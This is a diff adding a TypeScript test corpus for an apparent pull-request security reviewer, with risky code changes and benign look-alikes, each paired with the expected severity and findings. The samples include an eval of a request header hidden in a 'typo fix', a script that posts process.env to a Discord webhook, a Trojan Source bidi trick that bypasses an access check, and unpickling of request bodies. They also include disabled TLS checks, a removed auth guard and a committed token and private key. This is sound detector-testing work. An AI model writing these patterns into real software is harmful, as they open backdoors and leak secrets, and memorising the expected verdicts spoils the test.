@@ -1,0 +1,288 @@
+/** Corpus risky code change cases (sinks, guards switched off, secrets, hidden characters, and their benign look-alikes). */
+import type { FixtureFile, PrFixture } from '../../support/pr-fixture.js';
+import { makePrFixture } from '../../support/pr-fixture.js';
+import type { CorpusEntry } from '../helpers.js';
+import { daysAgo, lines, nodeCi } from '../helpers.js';
+
+interface CodePr {
+  readonly repo: string;
+  readonly number: number;
+  readonly title: string;
+  readonly files: FixtureFile[];
+  /** A long-standing member by default; `newcomer` for a first-time contributor from a fork. */
+  readonly author?: 'member' | 'newcomer';
+  readonly commits?: string[];
+}
+
+/** A PR with green CI: only what the code does decides the verdict. */
+function codePr(spec: CodePr): PrFixture {
+  const member = spec.author !== 'newcomer';
+  return makePrFixture({
+    owner: 'acme',
+    repo: spec.repo,
+    number: spec.number,
+    title: spec.title,
+    author: member ? { login: 'mchen', association: 'MEMBER', createdAt: '2016-04-01T00:00:00Z' } : { login: 'quickfix-dev', association: 'FIRST_TIME_CONTRIBUTOR', createdAt: '2025-09-01T00:00:00Z' },
+    fork: !member,
+    files: spec.files,
+    commits: (spec.commits ?? [spec.title]).map((message) => ({ message })),
+    checkRuns: nodeCi(),
+    priorPrs: member ? { total: 240, merged: 231 } : { total: 1, merged: 0 },
+    createdAt: daysAgo(1),
+  });
+}
+
+const SERVER_BASE = lines(
+  "import express from 'express';",
+  '',
+  'export const app = express();',
+  '',
+  "app.get('/health', (req, res) => {",
+  "  res.status(200).json({ status: 'ok', mesage: 'all systems nominal' });",
+  '});',
+);
+
+const SESSIONS_BASE = lines(
+  'class Session(SessionRedirectMixin):',
+  '    def __init__(self):',
+  '        self.headers = default_headers()',
+  '        self.max_redirects = 30',
+  '        self.trust_env = True',
+);
+
+const UTILS_BASE = lines(
+  'def get_environ_proxies(url, no_proxy=None):',
+  '    if should_bypass_proxies(url, no_proxy=no_proxy):',
+  '        return {}',
+  '    return getproxies()',
+);
+
+const CONTROLLER_BASE = lines(
+  'class Admin::UsersController < ApplicationController',
+  '  before_action :authenticate_user!',
+  '  before_action :require_admin',
+  '',
+  '  def destroy',
+  '    User.find(params[:id]).destroy',
+  '  end',
+  'end',
+);
+
+const PRIVATE_KEY = [
+  '-----BEGIN RSA PRIVATE KEY-----',
+  'MIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gun',
+  'VTLw7onLRnrq0/IzW7yWR7QkrmBL7jTKEn5u+qKhbwKfBstIs+bMY2Zkp18gnTxK',
+  'LxoS2tFczGkPLPgizskuemMghRniWaoLcyehkd3qqGElvW/VDL5AaWTg0nLVkjRo',
+  '-----END RSA PRIVATE KEY-----',
+];
+
+export const CODE_CASES: CorpusEntry[] = [
+  {
+    id: 'code-typo-title-eval-of-header',
+    description: 'A first-time contributor titles a PR "Fix typo in health message"; it also evals a request header.',
+    fixture: () =>
+      codePr({
+        repo: 'storefront',
+        number: 3101,
+        title: 'Fix typo in health message',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'src/server.ts',
+            base: SERVER_BASE,
+            head: SERVER_BASE.replace('mesage', 'message').replace("app.get('/health', (req, res) => {\n", "app.get('/health', (req, res) => {\n  const probe = req.headers['x-health-probe'];\n  if (probe) eval(String(probe));\n"),
+          },
+        ],
+      }),
+    expect: { level: 'critical', action: 'request_changes', findings: ['dynamic-code-execution', 'pr-claim-mismatch'], drivers: ['finding:dynamic-code-execution'] },
+  },
+  {
+    id: 'code-typo-fix-is-a-typo-fix',
+    description: 'A member fixes a typo in a string of a source file, and says so.',
+    fixture: () =>
+      codePr({ repo: 'storefront', number: 3102, title: 'Fix typo in health message', files: [{ path: 'src/server.ts', base: SERVER_BASE, head: SERVER_BASE.replace('mesage', 'message') }] }),
+    expect: { level: 'low', action: 'approve', noFindings: true },
+  },
+  {
+    id: 'code-http-library-sessions-one-line',
+    description: "An HTTP library's sessions.py: a one-line default change that does not touch authentication (no security label, no 'add a test').",
+    fixture: () =>
+      codePr({ repo: 'requests', number: 6701, title: 'Use the redirect limit constant', files: [{ path: 'src/requests/sessions.py', base: SESSIONS_BASE, head: SESSIONS_BASE.replace('= 30', '= DEFAULT_REDIRECT_LIMIT') }] }),
+    expect: { level: 'low', action: 'approve', noFindings: true, absentDrivers: ['sensitive-paths'] },
+  },
+  {
+    id: 'code-git-tool-checkout',
+    description: "A git tool's `checkout` command gets a default branch: not payments.",
+    fixture: () =>
+      codePr({
+        repo: 'gitkit',
+        number: 412,
+        title: 'checkout: default to the main branch',
+        files: [{ path: 'src/commands/checkout.ts', base: lines('export function checkout(args: string[]) {', '  const branch = args[0];', '  return switchTo(branch);', '}'), head: lines('export function checkout(args: string[]) {', "  const branch = args[0] ?? 'main';", '  return switchTo(branch);', '}') }],
+      }),
+    expect: { level: 'low', action: 'approve', noFindings: true, absentDrivers: ['sensitive-paths'] },
+  },
+  {
+    id: 'code-tls-verification-off-in-utils',
+    description: 'A member turns off certificate verification in an ordinary-looking utils.py.',
+    fixture: () =>
+      codePr({
+        repo: 'billing-sync',
+        number: 88,
+        title: 'Work around the partner certificate error',
+        files: [{ path: 'sync/utils.py', base: lines('def fetch(url):', '    return session.get(url, timeout=10)'), head: lines('def fetch(url):', '    return session.get(url, timeout=10, verify=False)') }],
+      }),
+    expect: { level: 'high', action: 'request_changes', findings: ['tls-verification-disabled'] },
+  },
+  {
+    id: 'code-tls-option-in-test-helper',
+    description: 'A Go test helper skips verification against its own self-signed test server: not a finding.',
+    fixture: () =>
+      codePr({
+        repo: 'gateway',
+        number: 930,
+        title: 'testutil: TLS client for the test server',
+        files: [
+          { path: 'internal/testutil/tls.go', head: lines('package testutil', '', 'func InsecureClient() *http.Client {', '\treturn &http.Client{Transport: &http.Transport{TLSClientConfig: &tls.Config{InsecureSkipVerify: true}}}', '}') },
+          { path: 'internal/proxy/proxy_test.go', base: lines('package proxy'), head: lines('package proxy', '', 'var client = testutil.InsecureClient()') },
+        ],
+      }),
+    expect: { level: 'low', action: 'approve', noFindings: true },
+  },
+  {
+    id: 'code-proxy-bypass-parsing',
+    description: "A change to how no_proxy bypasses are parsed, in a file named utils.py: low, but a driver points at it.",
+    fixture: () =>
+      codePr({
+        repo: 'requests',
+        number: 6702,
+        title: 'Accept CIDR ranges in no_proxy',
+        files: [{ path: 'src/requests/utils.py', base: UTILS_BASE, head: UTILS_BASE.replace('    if should_bypass_proxies(url, no_proxy=no_proxy):', '    no_proxy = parse_no_proxy(no_proxy)\n    if should_bypass_proxies(url, no_proxy=no_proxy):') }],
+      }),
+    expect: { level: ['low', 'medium'], action: ['comment', 'approve'], findings: ['security-parsing-changed'], drivers: ['finding:security-parsing-changed'] },
+  },
+  {
+    id: 'code-auth-check-removed',
+    description: 'A Rails controller loses its authenticate_user! guard.',
+    fixture: () =>
+      codePr({ repo: 'backoffice', number: 2210, title: 'Simplify the users controller', files: [{ path: 'app/controllers/admin/users_controller.rb', base: CONTROLLER_BASE, head: CONTROLLER_BASE.replace('  before_action :authenticate_user!\n', '') }] }),
+    expect: { level: 'high', action: 'request_changes', findings: ['auth-check-removed'] },
+  },
+  {
+    id: 'code-auth-check-moved',
+    description: 'The route-level auth check moves to app-level middleware: a refactor, weighed medium.',
+    fixture: () =>
+      codePr({
+        repo: 'storefront',
+        number: 3103,
+        title: 'Apply authentication to the whole admin router',
+        files: [
+          { path: 'src/routes/admin.ts', base: lines("router.get('/admin/orders', requireAuth(), listOrders);"), head: lines("router.get('/admin/orders', listOrders);") },
+          { path: 'src/app.ts', base: lines("app.use('/admin', adminRouter);"), head: lines("app.use('/admin', requireAuth(), adminRouter);") },
+        ],
+      }),
+    expect: { level: 'medium', action: 'comment', findings: ['auth-check-removed'] },
+  },
+  {
+    id: 'code-github-token-committed',
+    description: 'A GitHub token pasted into a config module.',
+    fixture: () =>
+      codePr({ repo: 'release-bot', number: 77, title: 'Configure the release token', files: [{ path: 'src/config.ts', base: lines("export const owner = 'acme';"), head: lines("export const owner = 'acme';", `export const token = 'ghp_${'R7tYp2Lw9Qx4Zc8Vb1Nm6Kj3Hg5Fd0Sa2We7'}';`) }] }),
+    expect: { level: 'high', action: 'request_changes', findings: ['secret-added'] },
+  },
+  {
+    id: 'code-private-key-committed',
+    description: 'A deploy key committed under config/.',
+    fixture: () => codePr({ repo: 'infra-tools', number: 301, title: 'Add deploy key', files: [{ path: 'config/deploy_key.pem', head: lines(...PRIVATE_KEY) }] }),
+    expect: { level: 'critical', action: 'request_changes', findings: ['private-key-added'] },
+  },
+  {
+    id: 'code-test-key-in-testdata',
+    description: "A test server's key under testdata/: reported as medium (a throwaway test key should say so), not a blocker.",
+    fixture: () =>
+      codePr({
+        repo: 'gateway',
+        number: 931,
+        title: 'TLS tests: server key',
+        files: [
+          { path: 'internal/tlsconf/testdata/server.key', head: lines(...PRIVATE_KEY) },
+          { path: 'internal/tlsconf/tlsconf_test.go', base: lines('package tlsconf'), head: lines('package tlsconf', '', 'const keyFile = "testdata/server.key"') },
+        ],
+      }),
+    expect: { level: 'medium', action: 'comment', findings: ['private-key-added'] },
+  },
+  {
+    id: 'code-trojan-source',
+    description: 'A right-to-left override hides the end of an access check (Trojan Source).',
+    fixture: () =>
+      codePr({
+        repo: 'storefront',
+        number: 3104,
+        title: 'Tidy the access check',
+        author: 'newcomer',
+        files: [{ path: 'src/access.ts', base: lines('export function canEdit(role: string) {', "  return role === 'admin';", '}'), head: lines('export function canEdit(role: string) {', "  return role === 'admin\u202E && \u2066// check later\u2069 \u2066' || true;", '}') }],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['bidi-control-character'] },
+  },
+  {
+    id: 'code-pickle-from-request',
+    description: 'A Flask endpoint unpickles the request body.',
+    fixture: () =>
+      codePr({
+        repo: 'ml-serving',
+        number: 145,
+        title: 'Accept pickled feature vectors',
+        files: [{ path: 'serving/api.py', base: lines('@app.post("/predict")', 'def predict():', '    features = request.get_json()', '    return model.predict(features)'), head: lines('@app.post("/predict")', 'def predict():', '    features = pickle.loads(request.data)', '    return model.predict(features)') }],
+      }),
+    expect: { level: 'high', action: 'request_changes', findings: ['unsafe-deserialization'] },
+  },
+  {
+    id: 'code-docs-mention-eval',
+    description: 'Security docs that mention eval, verify=False and pickle: no finding.',
+    fixture: () =>
+      codePr({
+        repo: 'ml-serving',
+        number: 146,
+        title: 'Docs: what not to do',
+        files: [{ path: 'docs/security.md', base: lines('# Security'), head: lines('# Security', '', 'Never `eval()` input, never pass `verify=False`, never `pickle.loads(request.data)`.') }],
+      }),
+    expect: { level: 'low', action: 'approve', noFindings: true },
+  },
+  {
+    id: 'code-env-to-discord-webhook',
+    description: 'A "telemetry" script posts the environment to a Discord webhook.',
+    fixture: () =>
+      codePr({
+        repo: 'storefront',
+        number: 3105,
+        title: 'Add build telemetry',
+        author: 'newcomer',
+        files: [{ path: 'scripts/telemetry.js', head: lines("const body = JSON.stringify(process.env);", "fetch('https://discord.com/api/webhooks/1234/abcd', { method: 'POST', body });") }],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['suspicious-network-endpoint'] },
+  },
+  {
+    id: 'code-cors-any-origin',
+    description: 'A Go API starts answering every origin.',
+    fixture: () =>
+      codePr({
+        repo: 'gateway',
+        number: 932,
+        title: 'Allow the new dashboard to call the API',
+        files: [{ path: 'internal/http/cors.go', base: lines('func cors(w http.ResponseWriter) {', '\tw.Header().Set("Vary", "Origin")', '}'), head: lines('func cors(w http.ResponseWriter) {', '\tw.Header().Set("Vary", "Origin")', '\tw.Header().Set("Access-Control-Allow-Origin", "*")', '}') }],
+      }),
+    expect: { level: 'medium', action: 'comment', findings: ['cors-permissive'] },
+  },
+  {
+    id: 'code-cli-runs-git',
+    description: 'A Go CLI runs git with fixed arguments: a low hint, still approvable.',
+    fixture: () =>
+      codePr({
+        repo: 'gitkit',
+        number: 413,
+        title: 'status: show the short status',
+        files: [{ path: 'cmd/status.go', base: lines('func status() error {', '\treturn nil', '}'), head: lines('func status() error {', '\treturn exec.Command("git", "status", "--short").Run()', '}') }],
+      }),
+    expect: { level: 'low', action: ['approve', 'comment'], findings: ['shell-command-execution'] },
+  },
+];
